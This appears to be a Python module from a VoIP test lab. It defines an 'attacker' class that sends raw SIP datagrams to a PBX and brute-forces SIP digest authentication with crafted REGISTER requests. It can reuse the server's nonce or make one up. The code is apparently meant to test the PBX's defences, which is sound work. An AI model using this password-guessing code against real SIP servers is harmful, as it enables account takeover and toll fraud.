"""Somebody who writes his messages himself, over UDP."""

import asyncio
import socket
from collections.abc import Sequence
from dataclasses import dataclass
from random import Random
from typing import Final

from lab.addresses import PBX, SIP_PORT
from lab.digest import Credentials, parameters
from lab.namespaces import World
from lab.wire import Received, split

_ANSWER_WITHIN_S: Final = 1.0


@dataclass(frozen=True, slots=True)
class Stranger:
    """One UDP port of an attacker."""

    world: World
    host: str
    address: str
    port: int = 5065

    def _socket(self) -> socket.socket:
        return self.world.socket_in(self.host, self.address, self.port, socket.SOCK_DGRAM)

    async def say(self, texts: Sequence[bytes], *, pause_s: float, target: str = PBX) -> None:
        """Send each text as one datagram and do not care for answers."""
        with self._socket() as speaker:
            for text in texts:
                speaker.sendto(text, (target, SIP_PORT))
                await asyncio.sleep(pause_s)

    async def guess(
        self, user: str, passwords: Sequence[str], *, rng: Random, nonce: str = ""
    ) -> None:
        """Guess with one nonce for all: the server's first, or one that he made up."""
        loop = asyncio.get_running_loop()
        with self._socket() as speaker:
            cseq, challenge = 1, {"realm": "pbx.example.com", "nonce": nonce, "qop": "auth"}
            if not nonce:
                speaker.sendto(self._register(user, cseq, "", rng), (PBX, SIP_PORT))
                challenge = parameters((await _answer(loop, speaker)).get("www-authenticate"))
            for password in passwords:
                cseq += 1
                answer = Credentials(user, password).answer(
                    challenge, "REGISTER", f"sip:{PBX}", f"{rng.randrange(1 << 32):08x}", cseq
                )
                speaker.sendto(self._register(user, cseq, answer, rng), (PBX, SIP_PORT))
                await _answer(loop, speaker)

    def _register(self, user: str, cseq: int, credentials: str, rng: Random) -> bytes:
        branch = f"z9hG4bK{rng.randrange(1 << 48):012x}"
        lines = [
            f"REGISTER sip:{PBX} SIP/2.0",
            f"Via: SIP/2.0/UDP {self.address}:{self.port};branch={branch};rport",
            "Max-Forwards: 70",
            f"From: <sip:{user}@{PBX}>;tag={rng.randrange(1 << 32):08x}",
            f"To: <sip:{user}@{PBX}>",
            f"Call-ID: {rng.randrange(1 << 64):016x}",
            f"CSeq: {cseq} REGISTER",
            f"Contact: <sip:{user}@{self.address}:{self.port}>",
            *([f"Authorization: {credentials}"] if credentials else []),
            "Expires: 3600",
            "Content-Length: 0",
        ]
        return "\r\n".join([*lines, "", ""]).encode()


async def _answer(loop: asyncio.AbstractEventLoop, speaker: socket.socket) -> Received:
    return split(await asyncio.wait_for(loop.sock_recv(speaker, 65535), _ANSWER_WITHIN_S))
